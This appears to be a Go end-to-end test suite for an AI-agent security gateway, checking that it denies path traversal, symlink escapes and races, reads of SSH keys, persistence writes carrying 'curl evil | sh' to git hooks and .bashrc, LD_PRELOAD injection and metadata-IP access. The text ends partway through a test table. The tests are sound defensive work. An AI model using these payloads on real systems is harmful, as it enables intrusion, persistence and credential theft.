package gateway_test

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// routeCase is one request of the route table and everything it must
// produce: status, error code, decision, and audit events by type.
type routeCase struct {
	name     string
	method   string
	path     string
	token    string
	body     any
	status   int
	code     string         // error code; "" for a success body
	decision string         // "allow", "deny" or "" when no decision is made
	events   map[string]int // audit events this request must add, by type
	check    func(t *testing.T, e *env, r response)
}

const (
	evDecision = "policy_decision"
	evCred     = "credential_access"
	evTool     = "tool_execution"
	evAuth     = "auth_failure"
	evRate     = "rate_limit_exceeded"
)

// TestE2ERoutes drives every route of a real listening gateway (real
// policies, real bwrap, real credential store) through a table of requests
// and checks status, error code, decision and the exact audit events each
// one adds; then the audit chain verifies and no secret leaked anywhere.
func TestE2ERoutes(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOptions{})
	if err := os.Symlink(filepath.Join(e.outside, "secret.txt"), filepath.Join(e.ws, "escape")); err != nil {
		t.Fatal(err)
	}
	idRSA := filepath.Join(e.home, ".ssh", "id_rsa")

	execOK := func(wantStdout string) func(t *testing.T, e *env, r response) {
		return func(t *testing.T, e *env, r response) {
			var a struct {
				DecisionID string `json:"decision_id"`
				ExitCode   int    `json:"exit_code"`
				Stdout     string `json:"stdout"`
				Stderr     string `json:"stderr"`
				TimedOut   bool   `json:"timed_out"`
			}
			r.decode(t, &a)
			if a.ExitCode != 0 || a.Stdout != wantStdout || a.TimedOut {
				t.Errorf("got exit %d stdout %q stderr %q timed_out %v, want exit 0 stdout %q", a.ExitCode, a.Stdout, a.Stderr, a.TimedOut, wantStdout)
			}
		}
	}
	readOK := func(want string) func(t *testing.T, e *env, r response) {
		return func(t *testing.T, e *env, r response) {
			var a struct {
				ContentBase64 string `json:"content_base64"`
				Size          int64  `json:"size"`
			}
			r.decode(t, &a)
			got, err := base64.StdEncoding.DecodeString(a.ContentBase64)
			if err != nil || string(got) != want || a.Size != int64(len(want)) {
				t.Errorf("got content %q size %d (%v), want %q size %d", got, a.Size, err, want, len(want))
			}
		}
	}
	writeOK := func(size int64, file, want string) func(t *testing.T, e *env, r response) {
		return func(t *testing.T, e *env, r response) {
			var a struct {
				Size int64 `json:"size"`
			}
			r.decode(t, &a)
			if a.Size != size {
				t.Errorf("got size %d, want %d", a.Size, size)
			}
			got, err := os.ReadFile(filepath.Join(e.ws, file))
			if err != nil || string(got) != want {
				t.Errorf("got file %q (%v), want %q", got, err, want)
			}
		}
	}
	reasonHas := func(sub string) func(t *testing.T, e *env, r response) {
		return func(t *testing.T, e *env, r response) {
			a := r.apiError(t)
			if !slices.ContainsFunc(a.Reasons, func(s string) bool { return strings.Contains(s, sub) }) {
				t.Errorf("got reasons %q, want one containing %q", a.Reasons, sub)
			}
		}
	}
	messageHas := func(sub string) func(t *testing.T, e *env, r response) {
		return func(t *testing.T, e *env, r response) {
			if a := r.apiError(t); !strings.Contains(a.Message, sub) {
				t.Errorf("got message %q, want it to contain %q", a.Message, sub)
			}
		}
	}
	decideAllow := func(want bool) func(t *testing.T, e *env, r response) {
		return func(t *testing.T, e *env, r response) {
			var a struct {
				Allow   bool     `json:"allow"`
				Reasons []string `json:"reasons"`
			}
			r.decode(t, &a)
			if a.Allow != want {
				t.Errorf("got allow %v (reasons %q), want %v", a.Allow, a.Reasons, want)
			}
			if a.Reasons == nil {
				t.Errorf("got reasons null, want a list")
			}
		}
	}
	one := func(ev string) map[string]int { return map[string]int{ev: 1} }
	none := map[string]int{}

	cases := []routeCase{
		{name: "healthz", method: "GET", path: "/healthz", status: 200, events: none},
		{name: "readyz", method: "GET", path: "/readyz", status: 200, events: none},
		{name: "metrics without token", method: "GET", path: "/metrics", status: 200, events: none},
		{name: "decide read allowed", method: "POST", path: "/v1/decide", token: tokenCI,
			body:   map[string]any{"action": "path.read", "path": map[string]any{"requested": "hello.txt"}},
			status: 200, decision: "allow", events: one(evDecision), check: decideAllow(true)},
		{name: "decide read /etc/passwd", method: "POST", path: "/v1/decide", token: tokenCI,
			body:   map[string]any{"action": "path.read", "path": map[string]any{"requested": "/etc/passwd"}},
			status: 200, decision: "deny", events: one(evDecision), check: decideAllow(false)},
		{name: "decide write persistence", method: "POST", path: "/v1/decide", token: tokenCI,
			body:   map[string]any{"action": "path.write", "path": map[string]any{"requested": ".bashrc"}},
			status: 200, decision: "deny", events: one(evDecision), check: decideAllow(false)},
		{name: "decide tool granted", method: "POST", path: "/v1/decide", token: tokenCI,
			body:   map[string]any{"action": "tool.exec", "tool": map[string]any{"name": "t-echo", "argv": []string{"x"}}},
			status: 200, decision: "allow", events: one(evDecision), check: decideAllow(true)},
		{name: "decide ignores caller subject", method: "POST", path: "/v1/decide", token: tokenOther,
			body:   map[string]any{"action": "tool.exec", "subject": map[string]any{"agent": "ci-bot"}, "tool": map[string]any{"name": "t-echo", "command": "/usr/bin/echo"}},
			status: 200, decision: "deny", events: one(evDecision), check: decideAllow(false)},
		{name: "decide ignores caller resolved path", method: "POST", path: "/v1/decide", token: tokenCI,
			body:   map[string]any{"action": "path.read", "path": map[string]any{"requested": idRSA, "resolved": "/x/ws/hello.txt", "ancestors": []string{"/"}}},
			status: 200, decision: "deny", events: one(evDecision), check: decideAllow(false)},
		{name: "decide credential granted", method: "POST", path: "/v1/decide", token: tokenCI,
			body:   map[string]any{"action": "credential.read", "credential": map[string]any{"provider": "github"}},
			status: 200, decision: "allow", events: one(evDecision), check: decideAllow(true)},
		{name: "decide network undeclared", method: "POST", path: "/v1/decide", token: tokenCI,
			body:   map[string]any{"action": "network.connect", "network": map[string]any{"host": "169.254.169.254", "port": 80}},
			status: 200, decision: "deny", events: one(evDecision), check: decideAllow(false)},
		{name: "decide unknown action", method: "POST", path: "/v1/decide", token: tokenCI,
			body: map[string]any{"action": "rm.rf"}, status: 200, decision: "deny", events: one(evDecision), check: decideAllow(false)},
		{name: "decide without action", method: "POST", path: "/v1/decide", token: tokenCI,
			body: map[string]any{}, status: 400, code: "invalid_request", events: none, check: messageHas("action")},

		{name: "exec allowed echo", method: "POST", path: "/v1/exec", token: tokenCI,
			body:   map[string]any{"tool": "t-echo", "args": []string{"hello", "sandbox"}},
			status: 200, decision: "allow", events: map[string]int{evDecision: 1, evTool: 1}, check: execOK("hello sandbox\n")},
		{name: "exec allowed true", method: "POST", path: "/v1/exec", token: tokenCI,
			body: map[string]any{"tool": "t-true"}, status: 200, decision: "allow", events: map[string]int{evDecision: 1, evTool: 1}, check: execOK("")},
		{name: "exec cannot see outside the workspace", method: "POST", path: "/v1/exec", token: tokenCI,
			body:   map[string]any{"tool": "t-cat", "args": []string{idRSA}},
			status: 200, decision: "allow", events: map[string]int{evDecision: 1, evTool: 1},
			check: func(t *testing.T, e *env, r response) {
				var a struct {
					ExitCode int `json:"exit_code"`
				}
				r.decode(t, &a)
				if a.ExitCode == 0 {
					t.Errorf("got exit 0 from cat of %s inside the sandbox, want a failure", idRSA)
				}
			}},
		{name: "exec tool not granted", method: "POST", path: "/v1/exec", token: tokenOther,
			body: map[string]any{"tool": "t-echo", "args": []string{"hi"}}, status: 403, code: "denied", decision: "deny", events: one(evDecision),
			check: reasonHas(`not granted to agent "other"`)},
		{name: "exec tool not declared", method: "POST", path: "/v1/exec", token: tokenCI,
			body: map[string]any{"tool": "bash", "args": []string{"-c", "id"}}, status: 403, code: "denied", decision: "deny", events: one(evDecision),
			check: reasonHas("not declared")},
		{name: "exec tool path instead of name", method: "POST", path: "/v1/exec", token: tokenCI,
			body: map[string]any{"tool": "/bin/sh"}, status: 400, code: "invalid_request", events: none, check: messageHas("tool")},
		{name: "exec cwd outside workspace", method: "POST", path: "/v1/exec", token: tokenCI,
			body: map[string]any{"tool": "t-echo", "cwd": filepath.Join(e.home, ".ssh")}, status: 403, code: "denied", decision: "deny", events: one(evDecision)},
		{name: "exec credential injected and redacted", method: "POST", path: "/v1/exec", token: tokenCI,
			body:   map[string]any{"tool": "t-printenv", "args": []string{"GITHUB_TOKEN"}},
			status: 200, decision: "allow", events: map[string]int{evDecision: 2, evCred: 1, evTool: 1}, check: execOK("[REDACTED]\n")},
		{name: "exec credential env set by caller", method: "POST", path: "/v1/exec", token: tokenCI,
			body:   map[string]any{"tool": "t-printenv", "env": map[string]string{"GITHUB_TOKEN": "x"}},
			status: 400, code: "invalid_request", events: none, check: messageHas("env.GITHUB_TOKEN")},
		{name: "exec LD_PRELOAD refused", method: "POST", path: "/v1/exec", token: tokenCI,
			body:   map[string]any{"tool": "t-echo", "env": map[string]string{"LD_PRELOAD": "/tmp/x.so"}},
			status: 400, code: "invalid_request", events: none, check: messageHas("env.LD_PRELOAD")},

		{name: "read allowed", method: "POST", path: "/v1/files/read", token: tokenCI,
			body: map[string]any{"path": "hello.txt"}, status: 200, decision: "allow", events: one(evDecision), check: readOK("hello, workspace\n")},
		{name: "read dot-dot traversal", method: "POST", path: "/v1/files/read", token: tokenCI,
			body: map[string]any{"path": "../../etc/passwd"}, status: 403, code: "denied", decision: "deny", events: one(evDecision), check: reasonHas("outside the workspace")},
		{name: "read deep traversal to /etc/passwd", method: "POST", path: "/v1/files/read", token: tokenCI,
			body: map[string]any{"path": strings.Repeat("../", 20) + "etc/passwd"}, status: 403, code: "denied", decision: "deny", events: one(evDecision), check: reasonHas("/etc/passwd")},
		{name: "read absolute denied path", method: "POST", path: "/v1/files/read", token: tokenCI,
			body: map[string]any{"path": idRSA}, status: 403, code: "denied", decision: "deny", events: one(evDecision), check: reasonHas("denied path")},
		{name: "read symlink leading outside", method: "POST", path: "/v1/files/read", token: tokenCI,
			body: map[string]any{"path": "escape"}, status: 403, code: "denied", decision: "deny", events: one(evDecision), check: reasonHas("outside the workspace")},
		{name: "read audit log", method: "POST", path: "/v1/files/read", token: tokenCI,
			body: map[string]any{"path": e.auditPath}, status: 403, code: "denied", decision: "deny", events: one(evDecision)},
		{name: "read missing file", method: "POST", path: "/v1/files/read", token: tokenCI,
			body: map[string]any{"path": "missing.txt"}, status: 404, code: "not_found", decision: "allow", events: one(evDecision)},
		{name: "read directory", method: "POST", path: "/v1/files/read", token: tokenCI,
			body: map[string]any{"path": "."}, status: 400, code: "invalid_request", decision: "allow", events: one(evDecision)},
		{name: "read empty path", method: "POST", path: "/v1/files/read", token: tokenCI,
			body: map[string]any{"path": ""}, status: 400, code: "invalid_request", events: none, check: messageHas("path")},

		{name: "write symlink leading outside", method: "POST", path: "/v1/files/write", token: tokenCI,
			body: map[string]any{"path": "escape", "content_base64": b64("pwned"), "mode": "overwrite"}, status: 403, code: "denied", decision: "deny", events: one(evDecision),
			check: func(t *testing.T, e *env, r response) {
				if got, _ := os.ReadFile(filepath.Join(e.outside, "secret.txt")); string(got) != secretOutside {
					t.Errorf("got outside file %q, want it untouched", got)
				}
			}},
		{name: "write create", method: "POST", path: "/v1/files/write", token: tokenCI,
			body: map[string]any{"path": "notes/new.txt", "content_base64": b64("one\n"), "mode": "create"}, status: 200, decision: "allow", events: one(evDecision),
			check: writeOK(4, "notes/new.txt", "one\n")},
		{name: "write create on existing", method: "POST", path: "/v1/files/write", token: tokenCI,
			body: map[string]any{"path": "notes/new.txt", "content_base64": b64("two\n"), "mode": "create"}, status: 400, code: "invalid_request", decision: "allow", events: one(evDecision),
			check: messageHas("already exists")},
		{name: "write default mode is create", method: "POST", path: "/v1/files/write", token: tokenCI,
			body: map[string]any{"path": "notes/new.txt", "content_base64": b64("two\n")}, status: 400, code: "invalid_request", decision: "allow", events: one(evDecision)},
		{name: "write overwrite", method: "POST", path: "/v1/files/write", token: tokenCI,
			body: map[string]any{"path": "notes/new.txt", "content_base64": b64("two!\n"), "mode": "overwrite"}, status: 200, decision: "allow", events: one(evDecision),
			check: writeOK(5, "notes/new.txt", "two!\n")},
		{name: "write append", method: "POST", path: "/v1/files/write", token: tokenCI,
			body: map[string]any{"path": "notes/new.txt", "content_base64": b64("three\n"), "mode": "append"}, status: 200, decision: "allow", events: one(evDecision),
			check: writeOK(11, "notes/new.txt", "two!\nthree\n")},
		{name: "write git hook", method: "POST", path: "/v1/files/write", token: tokenCI,
			body: map[string]any{"path": ".git/hooks/pre-commit", "content_base64": b64("#!/bin/sh\ncurl evil\n"), "mode": "create"}, status: 403, code: "denied", decision: "deny", events: one(evDecision),
			check: func(t *testing.T, e *env, r response) {
				reasonHas("persistence")(t, e, r)
				if _, err := os.Lstat(filepath.Join(e.ws, ".git")); err == nil {
					t.Errorf("got .git created by a denied write, want nothing on disk")
				}
			}},
		{name: "write bashrc", method: "POST", path: "/v1/files/write", token: tokenCI,
			body: map[string]any{"path": ".bashrc", "content_base64": b64("curl evil | sh\n"), "mode": "create"}, status: 403, code: "denied", decision: "deny", events: one(evDecision),
			check: reasonHas("persistence")},
		{name: "write denied absolute path", method: "POST", path: "/v1/files/write", token: tokenCI,
			body: map[string]any{"path": filepath.Join(e.home, ".ssh", "authorized_keys"), "content_base64": b64("ssh-ed25519 AAAA"), "mode": "create"}, status: 403, code: "denied", decision: "deny", events: one(evDecision)},
		{name: "write bad mode", method: "POST", path: "/v1/files/write", token: tokenCI,
			body: map[string]any{"path": "x.txt", "content_base64": b64("x"), "mode": "truncate"}, status: 400, code: "invalid_request", events: none, check: messageHas("mode")},
		{name: "write bad base64", method: "POST", path: "/v1/files/write", token: tokenCI,
			body: map[string]any{"path": "x.txt", "content_base64": "!!!"}, status: 400, code: "invalid_request", events: none, check: messageHas("content_base64")},

		{name: "list credentials", method: "GET", path: "/v1/credentials", token: tokenCI, status: 200, events: none,
			check: func(t *testing.T, e *env, r response) {
				var list []map[string]any
				r.decode(t, &list)
				if len(list) != 1 || list[0]["provider"] != "github" {
					t.Errorf("got %s, want one entry for github", r.body)
				}
				for _, ent := range list {
					for k := range ent {
						if k != "provider" && k != "created_at" {
							t.Errorf("got field %q in a credential list entry, want provider and created_at only", k)
						}
					}
				}
			}},
		{name: "get credential granted", method: "GET", path: "/v1/credentials/github", token: tokenCI, status: 200, decision: "allow",
			events: map[string]int{evDecision: 1, evCred: 1},
			check: func(t *testing.T, e *env, r response) {
				var a struct{ Provider, Secret string }
				r.decode(t, &a)
				if a.Provider != "github" || a.Secret != secretCredential {
					t.Errorf("got provider %q secret of %d bytes, want github and the stored secret", a.Provider, len(a.Secret))
				}
				if got := r.header.Get("Cache-Control"); got != "no-store" {
					t.Errorf("got Cache-Control %q, want no-store", got)
				}
				e.dropBody(r.body)
			}},
		{name: "get credential not granted", method: "GET", path: "/v1/credentials/github", token: tokenOther, status: 403, code: "denied", decision: "deny",
			events: map[string]int{evDecision: 1, evCred: 1}, check: reasonHas("not granted")},
		{name: "get credential granted but not stored", method: "GET", path: "/v1/credentials/missing", token: tokenCI, status: 404, code: "not_found", decision: "allow",
			events: map[string]int{evDecision: 1, evCred: 1}},
		{name: "get credential bad provider", method: "GET", path: "/v1/credentials/Bad%20Name", token: tokenCI, status: 400, code: "invalid_request", events: none},

		{name: "unknown v1 route", method: "GET", path: "/v1/nope", token: tokenCI, status: 404, code: "not_found", events: none},
		{name: "unknown v1 route without token", method: "GET", path: "/v1/nope", status: 401, code: "unauthorized", events: one(evAuth)},
		{name: "wrong method", method: "GET", path: "/v1/exec", token: tokenCI, status: 405, code: "invalid_request", events: none},
		{name: "unknown top-level route", method: "GET", path: "/nope", status: 404, code: "not_found", events: none},
		{name: "wrong content type", method: "POST", path: "/v1/decide", token: tokenCI, body: `{"action":"path.read"}`, status: 400, code: "invalid_request", events: none},
		{name: "no token", method: "POST", path: "/v1/exec", body: map[string]any{"tool": "t-true"}, status: 401, code: "unauthorized", events: one(evAuth)},
	}
	// The wrong-content-type case needs its header changed after do set it.
	for _, c := range cases {
		before := len(e.auditLines())
		var r response
		if c.name == "wrong content type" {
			r = e.do(c.method, c.path, c.token, c.body, "Content-Type", "text/plain")
		} else {
			r = e.do(c.method, c.path, c.token, c.body)
		}
		lines := e.auditLines()[before:]
		t.Run(c.name, func(t *testing.T) {
			if r.status != c.status {
				t.Fatalf("got status %d, want %d; body %s", r.status, c.status, r.body)
			}
			if r.header.Get("X-Request-ID") == "" {
				t.Errorf("got no X-Request-ID header, want one on every response")
			}
			if c.code != "" {
				if a := r.apiError(t); a.Error != c.code || a.Message == "" {
					t.Errorf("got error %q message %q, want error %q and a message", a.Error, a.Message, c.code)
				}
			}
			if got := countEvents(lines); !mapsEqual(got, c.events) {
				t.Errorf("got audit events %v, want %v", got, c.events)
			}
			if c.decision != "" {
				checkDecision(t, r, lines, c.decision == "allow")
			}
			if c.check != nil {
				c.check(t, e, r)
			}
		})
	}
	// One policy_reload at startup, then exactly the events of the table.
	want := 1
	for _, c := range cases {
		for _, n := range c.events {
			want += n
		}
	}
	if rep := e.verifyAudit(); rep.Lines != want {
		t.Errorf("got %d verified audit lines, want %d", rep.Lines, want)
	}
	e.sweepSecrets(false)
}

func mapsEqual(a, b map[string]int) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if b[k] != v {
			return false
		}
	}
	return true
}

// checkDecision checks that every decision the request added has the
// wanted outcome and that the response names one of them.
func checkDecision(t *testing.T, r response, lines []map[string]any, allow bool) {
	t.Helper()
	var ids []string
	for _, l := range lines {
		if l["event"] != evDecision {
			continue
		}
		ids = append(ids, fmt.Sprint(l["decision_id"]))
		if l["allow"] != allow {
			t.Errorf("got policy_decision allow %v for %v, want %v", l["allow"], l["input"], allow)
		}
		if l["path"] != "clawbroker/authz/decision" {
			t.Errorf("got decision path %v, want clawbroker/authz/decision", l["path"])
		}
	}
	var body struct {
		DecisionID string `json:"decision_id"`
	}
	_ = json.Unmarshal(r.body, &body)
	if body.DecisionID == "" || !slices.Contains(ids, body.DecisionID) {
		t.Errorf("got decision_id %q in the response, want one of the audited %q", body.DecisionID, ids)
	}
}

// TestE2ESymlinkSwapRace flips a workspace symlink (and a symlinked
// directory) between an allowed target and a secret outside the workspace
// while other goroutines read and write through it over HTTP. The secret
// must never come back and nothing may land outside the workspace.
func TestE2ESymlinkSwapRace(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOptions{noCredentials: true})
	mustWrite(t, filepath.Join(e.ws, "allowed.txt"), "allowed content\n")
	mustWrite(t, filepath.Join(e.ws, "real", "f.txt"), "allowed dir content\n")
	mustWrite(t, filepath.Join(e.outside, "dir", "f.txt"), secretOutside)

	link := filepath.Join(e.ws, "swap")
	dlink := filepath.Join(e.ws, "dswap")
	targets := [][2]string{
		{filepath.Join(e.ws, "allowed.txt"), filepath.Join(e.ws, "real")},
		{filepath.Join(e.outside, "secret.txt"), filepath.Join(e.outside, "dir")},
	}
	flip := func(i int) {
		for j, l := range []string{link, dlink} {
			tmp := fmt.Sprintf("%s.tmp", l)
			_ = os.Remove(tmp)
			if err := os.Symlink(targets[i%2][j], tmp); err != nil {
				t.Error(err)
				return
			}
			if err := os.Rename(tmp, l); err != nil {
				t.Error(err)
				return
			}
		}
	}
	flip(0)

	stop := make(chan struct{})
	var flipper sync.WaitGroup
	flipper.Add(1)
	go func() {
		defer flipper.Done()
		for i := 1; ; i++ {
			select {
			case <-stop:
				return
			default:
			}
			flip(i)
			time.Sleep(time.Duration(i%3) * 100 * time.Microsecond)
		}
	}()

	var allowed, refused, other atomic.Int64
	const minRounds, maxRounds = 300, 3000
	deadline := time.Now().Add(15 * time.Second)
	var readers sync.WaitGroup
	var round atomic.Int64
	for w := 0; w < 4; w++ {
		readers.Add(1)
		go func() {
			defer readers.Done()
			for {
				n := round.Add(1)
				if n > maxRounds || time.Now().After(deadline) ||
					(n > minRounds && allowed.Load() > 0 && refused.Load() > 0) {
					return
				}
				path := "swap"
				switch n % 3 {
				case 1:
					path = "dswap/f.txt"
				case 2:
					r, err := e.try("POST", "/v1/files/write", tokenCI, map[string]any{"path": "dswap/planted.txt", "content_base64": b64("x"), "mode": "overwrite"})
					if err != nil {
						t.Errorf("write: %v", err)
						return
					}
					if r.status != 200 && r.status != 403 {
						other.Add(1)
						t.Logf("write got %d %s", r.status, r.body)
					}
					continue
				}
				r, err := e.try("POST", "/v1/files/read", tokenCI, map[string]any{"path": path})
				if err != nil {
					t.Errorf("read: %v", err)
					return
				}
				switch r.status {
				case 200:
					var a struct {
						ContentBase64 string `json:"content_base64"`
					}
					_ = json.Unmarshal(r.body, &a)
					got, _ := base64.StdEncoding.DecodeString(a.ContentBase64)
					if string(got) != "allowed content\n" && string(got) != "allowed dir content\n" {
						t.Errorf("read %s got content %q, want only allowed content", path, got)
					}
					allowed.Add(1)
				case 403:
					refused.Add(1)
				default:
					other.Add(1)
					t.Logf("read %s got %d %s", path, r.status, r.body)
				}
			}
		}()
	}
	readers.Wait()
	close(stop)
	flipper.Wait()
	t.Logf("rounds %d: allowed %d, refused %d, other %d", round.Load(), allowed.Load(), refused.Load(), other.Load())
	if allowed.Load() == 0 || refused.Load() == 0 {
		t.Errorf("got %d allowed and %d refused reads, want both outcomes (the race was not exercised)", allowed.Load(), refused.Load())
	}
	if _, err := os.Lstat(filepath.Join(e.outside, "dir", "planted.txt")); err == nil {
		t.Errorf("got planted.txt outside the workspace, want every write through a swapped link refused")
	}
	if got, _ := os.ReadFile(filepath.Join(e.outside, "secret.txt")); string(got) != secretOutside {
		t.Errorf("got outside secret changed to %q", got)
	}
	e.verifyAudit()
	e.sweepSecrets(false)
}

// TestE2ECORS sends preflights from an allowed and a refused origin.
func TestE2ECORS(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOptions{noCredentials: true})
	cases := []struct {
		name, origin string
		wantACAO     string
	}{
		{"allowed origin", "http://allowed.example", "http://allowed.example"},
		{"refused origin", "http://evil.example", ""},
		{"allowed host, other scheme", "https://allowed.example", ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			before := len(e.auditLines())
			r := e.do("OPTIONS", "/v1/exec", "", nil, "Origin", c.origin,
				"Access-Control-Request-Method", "POST", "Access-Control-Request-Headers", "authorization,content-type")
			if got := r.header.Get("Access-Control-Allow-Origin"); got != c.wantACAO {
				t.Errorf("got Access-Control-Allow-Origin %q, want %q", got, c.wantACAO)
			}
			if c.wantACAO != "" {
				if r.status != http.StatusNoContent {
					t.Errorf("got preflight status %d, want 204", r.status)
				}
				if got := r.header.Get("Access-Control-Allow-Headers"); !strings.Contains(strings.ToLower(got), "authorization") {
					t.Errorf("got Access-Control-Allow-Headers %q, want it to allow Authorization", got)
				}
				if got := r.header.Get("Access-Control-Allow-Origin"); got == "*" {
					t.Errorf("got wildcard origin, want the named one")
				}
			}
			// A real request from the origin carries the header only when allowed.
			r = e.do("POST", "/v1/decide", tokenCI, map[string]any{"action": "path.read", "path": map[string]any{"requested": "hello.txt"}}, "Origin", c.origin)
			if got := r.header.Get("Access-Control-Allow-Origin"); got != c.wantACAO {
				t.Errorf("got Access-Control-Allow-Origin %q on POST, want %q", got, c.wantACAO)
			}
			if got := countEvents(e.auditLines()[before:]); got[evDecision] != 1 || got[evAuth] != 0 {
				t.Errorf("got events %v, want one decision and no auth failure (preflights are not authenticated)", got)
			}
		})
	}
}

// TestE2EAuthFailures checks 401s and their audit lines.
func TestE2EAuthFailures(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOptions{noCredentials: true})
	const wrong = "cbt_wrong_token_do_not_log_me_424242"
	cases := []struct {
		name, auth, reason string
	}{
		{"missing", "", "missing"},
		{"wrong token", "Bearer " + wrong, "unknown token"},
		{"malformed scheme", "Basic " + base64.StdEncoding.EncodeToString([]byte("u:"+wrong)), "malformed"},
		{"empty bearer", "Bearer ", "malformed"},
		{"token without scheme", wrong, "malformed"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			before := len(e.auditLines())
			r := e.do("POST", "/v1/decide", "", map[string]any{"action": "path.read"}, "Authorization", c.auth)
			if r.status != 401 {
				t.Fatalf("got status %d, want 401", r.status)
			}
			if a := r.apiError(t); a.Error != "unauthorized" || !strings.Contains(a.Message, c.reason) {
				t.Errorf("got %q %q, want unauthorized with %q", a.Error, a.Message, c.reason)
			}
			if got := r.header.Get("WWW-Authenticate"); !strings.HasPrefix(got, "Bearer") {
				t.Errorf("got WWW-Authenticate %q, want Bearer", got)
			}
			lines := e.auditLines()[before:]
			if len(lines) != 1 || lines[0]["event"] != evAuth {
				t.Fatalf("got %d audit lines %v, want one auth_failure", len(lines), lines)
			}
			l := lines[0]
			if l["source_ip"] != "127.0.0.1" || l["method"] != "POST" || l["route"] != "/v1/decide" || !strings.Contains(fmt.Sprint(l["reason"]), c.reason) {
				t.Errorf("got auth_failure %v, want source_ip 127.0.0.1, POST /v1/decide, reason with %q", l, c.reason)
			}
		})
	}
	raw, _ := os.ReadFile(e.auditPath)
	if strings.Contains(string(raw), wrong) || strings.Contains(string(raw), base64.StdEncoding.EncodeToString([]byte("u:"+wrong))) {
		t.Errorf("audit log holds a presented token, want none")
	}
	e.verifyAudit()
	e.sweepSecrets(false)
}

// TestE2ERateLimit spends an agent's budget and checks the 429 and its
// headers and event.
func TestE2ERateLimit(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOptions{rpm: 5, burst: 1000, noCredentials: true})
	body := map[string]any{"action": "path.read", "path": map[string]any{"requested": "hello.txt"}}
	for i := 1; i <= 5; i++ {
		r := e.do("POST", "/v1/decide", tokenCI, body)
		if r.status != 200 {
			t.Fatalf("request %d: got status %d, want 200 within the budget", i, r.status)
		}
		if got, want := r.header.Get("X-RateLimit-Remaining"), fmt.Sprint(5-i); got != want {
			t.Errorf("request %d: got X-RateLimit-Remaining %q, want %q", i, got, want)
		}
	}
	before := len(e.auditLines())
	r := e.do("POST", "/v1/decide", tokenCI, body)
	if r.status != 429 {
		t.Fatalf("got status %d, want 429 after the budget", r.status)
	}
	if a := r.apiError(t); a.Error != "rate_limited" {
		t.Errorf("got error %q, want rate_limited", a.Error)
	}
	retry := r.header.Get("Retry-After")
	if n, err := fmt.Sscan(retry, new(int)); n != 1 || err != nil || retry == "0" {
		t.Errorf("got Retry-After %q, want a positive number of seconds", retry)
	}
	for h, want := range map[string]string{"X-RateLimit-Limit": "5", "X-RateLimit-Remaining": "0"} {
		if got := r.header.Get(h); got != want {
			t.Errorf("got %s %q, want %q", h, got, want)
		}
	}
	if reset := r.header.Get("X-RateLimit-Reset"); reset == "" {
		t.Errorf("got no X-RateLimit-Reset, want one")
	}
	lines := e.auditLines()[before:]
	if got := countEvents(lines); !mapsEqual(got, map[string]int{evRate: 1}) {
		t.Errorf("got events %v, want one rate_limit_exceeded and no decision", got)
	} else if lines[0]["agent"] != "ci-bot" {
		t.Errorf("got rate_limit_exceeded agent %v, want ci-bot", lines[0]["agent"])
	}
	// Another agent has its own budget.
	if r := e.do("POST", "/v1/decide", tokenOther, body); r.status != 200 {
		t.Errorf("got status %d for another agent, want 200", r.status)
	}
	e.verifyAudit()
}

// TestE2EBodyLimit sends bodies over gateway.max_body_bytes, declared and
// chunked.
func TestE2EBodyLimit(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOptions{maxBody: 2048, noCredentials: true})
	big := fmt.Sprintf(`{"tool":"t-echo","args":[%q]}`, strings.Repeat("A", 4096))
	cases := []struct {
		name    string
		chunked bool
		token   string
	}{
		{"content-length", false, tokenCI},
		{"content-length without token", false, ""},
		{"chunked", true, tokenCI},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			before := len(e.auditLines())
			var rd io.Reader = strings.NewReader(big)
			if c.chunked {
				rd = io.MultiReader(strings.NewReader(big[:100]), strings.NewReader(big[100:]))
			}
			req, err := http.NewRequest("POST", e.base+"/v1/exec", rd)
			if err != nil {
				t.Fatal(err)
			}
			req.Header.Set("Content-Type", "application/json")
			if c.token != "" {
				req.Header.Set("Authorization", "Bearer "+c.token)
			}
			if c.chunked {
				req.ContentLength = -1
			}
			r, err := e.send(req)
			if err != nil {
				t.Fatal(err)
			}
			if r.status != 413 {
				t.Fatalf("got status %d, want 413; body %s", r.status, r.body)
			}
			if a := r.apiError(t); a.Error != "payload_too_large" {
				t.Errorf("got error %q, want payload_too_large", a.Error)
			}
			if got := countEvents(e.auditLines()[before:]); len(got) != 0 {
				t.Errorf("got events %v, want none: the request never reached the broker", got)
			}
		})
	}
}

// TestE2EStrictDecoding checks that malformed requests are 400s naming
// the field, and reach neither policy nor sandbox.
func TestE2EStrictDecoding(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOptions{noCredentials: true})
	cases := []struct {
		name, path, body, want string
	}{
		{"unknown field", "/v1/exec", `{"tool":"t-echo","shell":true}`, `"shell"`},
		{"unknown nested field", "/v1/decide", `{"action":"path.read","path":{"requested":"a","follow":true}}`, `"follow"`},
		{"wrong type", "/v1/exec", `{"tool":42}`, "tool"},
		{"wrong type in list", "/v1/exec", `{"tool":"t-echo","args":"hi"}`, "args"},
		{"wrong type timeout", "/v1/exec", `{"tool":"t-echo","timeout_ms":"1s"}`, "timeout_ms"},
		{"NUL byte in path", "/v1/files/read", `{"path":"hello.txt\u0000.png"}`, "NUL"},
		{"NUL byte in arg", "/v1/exec", `{"tool":"t-echo","args":["a\u0000b"]}`, "NUL"},
		{"too many args", "/v1/exec", fmt.Sprintf(`{"tool":"t-echo","args":[%s"x"]}`, strings.Repeat(`"x",`, 300)), "args"},
		{"oversize arg", "/v1/exec", fmt.Sprintf(`{"tool":"t-echo","args":[%q]}`, strings.Repeat("y", 33<<10)), "args[0]"},
